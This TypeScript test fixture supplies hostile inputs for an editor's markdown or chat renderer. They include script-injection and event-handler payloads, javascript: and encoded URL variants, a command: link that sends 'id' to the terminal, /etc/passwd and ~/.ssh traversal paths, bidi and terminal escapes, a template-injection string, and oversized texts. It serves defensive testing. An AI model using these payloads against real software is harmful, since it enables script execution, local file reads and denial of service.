/**
 * What somebody writes who means harm. Whatever would run sets `pwned`, and whatever would load asks for an address
 * that has `evil` in it; `here` is the address of the editor's own server, which no proxy would catch.
 */
export function hostileTexts(here: string): readonly string[] {
  return [...markup(here), ...links(here), ...turned, ...piled, ...fences, ...places]
}

function markup(here: string): readonly string[] {
  return [
    '<script>pwned = 1; fetch("https://evil.invalid/script")</script>',
    '<img src=x onerror="pwned = 1"><img src="https://evil.invalid/img">',
    `<img src="${here}/evil.png" srcset="${here}/evil2.png 2x"><input autofocus onfocus="pwned = 1">`,
    '<iframe src="javascript:pwned = 1"></iframe><iframe src="https://evil.invalid/frame"></iframe>',
    '<svg onload="pwned = 1"><use href="https://evil.invalid/u.svg#a"/></svg><math><mtext><style>@import "https://evil.invalid"',
    '<style>@import "https://evil.invalid/css"; * { display: none; background: url(https://evil.invalid/bg) }</style>',
    '<link rel=prefetch href="https://evil.invalid/prefetch"><meta http-equiv=refresh content="0;url=https://evil.invalid">',
    '<base href="https://evil.invalid/"><form action="https://evil.invalid"><button autofocus>Send</button></form>',
    '<a href="command:workbench.action.closeActiveEditor" ping="https://evil.invalid/ping">Reply</a>',
    '<video poster="https://evil.invalid/poster" autoplay><source src="https://evil.invalid/video"></video>',
    '<details open ontoggle="pwned = 1"><summary>more</summary></details><object data="https://evil.invalid"></object>',
    '&lt;img src=x onerror=pwned=1&gt; &#60;script&#62;pwned=1&#60;/script&#62;',
    '</script></textarea></title></style>--><script>pwned = 1</script>]]>',
    '`<img src=x onerror=pwned=1>` and **<b onmouseover=pwned=1>**',
    '| <img src=x onerror=pwned=1> | [a](javascript:pwned=1) |\n|-|-|\n| <script>pwned=1</script> | ![](https://evil.invalid/cell) |',
  ]
}

function links(here: string): readonly string[] {
  const targets = [
    'command:workbench.action.closeActiveEditor',
    'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22id%22%7D',
    'javascript:pwned=1',
    'JaVaScRiPt:pwned=1',
    'java&#10;script:pwned=1',
    '&#106;avascript:pwned=1',
    '%6aavascript:pwned=1',
    '\u0001javascript:pwned=1',
    'data:text/html,<script>pwned=1</script>',
    'vbscript:pwned=1',
    'blob:https://evil.invalid/1',
    'file:///etc/passwd',
    'vscode://file/etc/passwd',
    'vscode-insiders://ms.remote/evil',
    'vscode-resource://file///etc/passwd',
    'about:blank',
    'ws://evil.invalid/',
    'ftp://evil.invalid/',
    '//evil.invalid/scheme',
    '#evil',
    '/etc/passwd',
    'search-ms:query=evil',
  ]
  return [
    ...targets.map(target => `[go](${target}) <${target}> ![picture](${target})`),
    '[a reference][1] and [another]\n\n[1]: javascript:pwned=1\n[another]: command:workbench.action.closeActiveEditor "x"',
    '![](https://evil.invalid/picture.png) ![alt](data:image/svg+xml,<svg/onload=pwned=1>)',
    `![](${here}/evil.png "onerror=pwned=1")`,
    '[![in a link](https://evil.invalid/inner)](command:workbench.action.closeActiveEditor)',
    '[https://bank.example](https://evil.invalid/a?b=1#c "title\\" onmouseover=pwned=1")',
    '[user](https://bank.example@evil.invalid/) [idn](https://xn--80ak6aa92e.invalid/evil) mailto:evil@evil.invalid',
    'https://evil.invalid/"onmouseover="pwned=1 https://evil.invalid/<script>pwned=1</script>',
  ]
}

const esc = '\u001b'

/** Direction marks, what only a terminal understands, and what cannot be seen. */
const turned: readonly string[] = [
  'invoice\u202egpj.exe and \u2066isolated\u2069 and \u2067right\u2069 and \u202dleft',
  '`src/\u202est.lave` @\u202eboard ok\u200b.\u200cinvisible\u2060\ufeff\u00ad',
  `${esc}[31mred${esc}[0m ${esc}[2J${esc}[H${esc}]0;pwned\u0007 ${esc}]8;;https://evil.invalid\u0007click${esc}]8;;\u0007`,
  `\u009b31m ${esc}P1;2|evil${esc}\\ ${esc}c nul\u0000 bell\u0007 back\u0008\u0008 feed\u000b\u000c\r\nreturn\rover`,
  '\u{e0041}\u{e0042}\u{e007f} \ufff9anno\ufffatation\ufffb \u2028line\u2029paragraph',
]

const piled: readonly string[] = [
  `Z${'\u0300\u0315\u031b'.repeat(400)}A${'\u0489'.repeat(400)}lgo`,
  '@alice '.repeat(1000),
  '$(zap~spin) $(error) {0} {1} %s $$ {{constructor.constructor("pwned=1")()}}',
  '\ud83d\udc68\u200d'.repeat(500),
]

const fences: readonly string[] = [
  ...[
    'ts ../../secret.txt:1-3',
    'ts /etc/passwd:1',
    'ts \\\\server\\share\\a.ts:1',
    'ts file:///etc/passwd:1',
    'ts <img src=x onerror=pwned=1>:1',
    'html src/\u202est.lave:1',
    'constructor __proto__/toString.ts:1',
    '__proto__',
    'ts src/b.ts:9999999',
    `${'long'.repeat(500)} ${'path/'.repeat(70)}a.ts:1`,
    '" onmouseover="pwned=1',
  ].map(info => `\`\`\`${info}\n<script>pwned = 1</script> ${esc}[31m \u202e\n\`\`\``),
]

const places: readonly string[] = [
  '../../etc/passwd.txt:1 src/../../../secret.txt:1 /etc/passwd.txt:1 ~/.ssh/config.txt:1 C:\\Windows\\win.ini:1',
  '\\\\server\\share\\a.ts:1 //server/share/a.ts:1 file:///etc/passwd.txt:1 vscode://evil/a.ts:1 `/etc/hosts.conf:1`',
  'a.ts:0 b.ts:-1 c.ts:1e9 d.ts:99999999999999 $(id).ts:1 {a,b}/**/*.ts:1 con.ts:1 link/secret.txt:1 .env.txt:1',
]

/** Texts as long as a message can be, each made to take its reader's time. */
export const hugeTexts: Readonly<Record<string, string>> = {
  'one word': 'x'.repeat(100_000),
  'one line': 'word '.repeat(20_000),
  quotes: `${'>'.repeat(10_000)} deep`,
  lists: `${'- '.repeat(10_000)}deep`,
  emphasis: '*a **b __c _d '.repeat(7_000),
  brackets: '['.repeat(50_000) + ']('.repeat(20_000),
  pictures: '![a](https://evil.invalid/p.png) '.repeat(3_000),
  links: 'https://evil.invalid/a '.repeat(4_000),
  mentions: '@alice '.repeat(14_000),
  places: 'src/a.ts:1 '.repeat(9_000),
  ticks: '` `` ``` '.repeat(11_000),
  tags: '<img src=https://evil.invalid/ onerror=pwned=1>'.repeat(2_000),
  hidden: '\u202e\u001b'.repeat(25_000),
  marks: 'e\u0301'.repeat(30_000),
  table: `|${'a|'.repeat(15_000)}\n|${'-|'.repeat(15_000)}\n`,
  lines: 'l\n'.repeat(50_000),
  code: `\`\`\`js\n${'`${/('.repeat(15_000)}\n\`\`\``,
  entities: '&#x202e;&lt;'.repeat(8_000),
}
